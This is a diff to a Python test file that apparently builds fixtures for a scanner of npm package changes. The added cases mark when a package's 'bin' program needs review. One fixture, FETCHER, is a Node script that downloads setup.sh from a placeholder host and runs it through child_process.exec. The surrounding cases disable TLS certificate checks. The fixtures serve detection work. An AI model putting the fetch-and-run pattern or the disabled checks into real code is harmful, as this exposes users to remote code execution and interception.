@@ -525,3 +525,20 @@ for about, code in (("something else", "  if (opts.host) options.rejectUnauthori
                     ("an option that is always set", "  const own = { insecure: true };\n  if (own.insecure) options.rejectUnauthorized = false;\n"),
                     ("the absence of an option", "  if (opts.strictSSL) {\n    options.agent = null;\n  } else options.rejectUnauthorized = false;\n")):
     row(28, True, about + " leaves out the check", {"lib/client.js": CLIENT_OLD % code}, old={"lib/client.js": CLIENT_OLD % ""}, least="review")
+
+# ---- a program that is found by its entry in the manifest only ------------------------------------------
+
+FETCHER = """#!/usr/bin/env node
+const cp = require('child_process');
+require('https').get('https://tools.sample.example/setup.sh', (r) => {
+  let text = '';
+  r.on('data', (d) => { text += d; });
+  r.on('end', () => cp.exec(text));
+});
+"""
+STARTS = {"bin": {"sample": "bin/run"}}
+row(1, False, "a program without an ending was there before", {"bin/run": FETCHER, "lib/a.js": "exports.a = 2;\n"},
+    old={"bin/run": FETCHER, "lib/a.js": "exports.a = 1;\n"}, new_package=STARTS, old_package=STARTS)
+row(1, True, "a program without an ending changed", {"bin/run": FETCHER}, old={"bin/run": "#!/usr/bin/env node\nconsole.log(1);\n"},
+    new_package=STARTS, old_package=STARTS, least="review")
+row(1, True, "a text becomes a program", {"bin/run": FETCHER[20:]}, old={"bin/run": FETCHER[20:]}, new_package=STARTS, least="review")
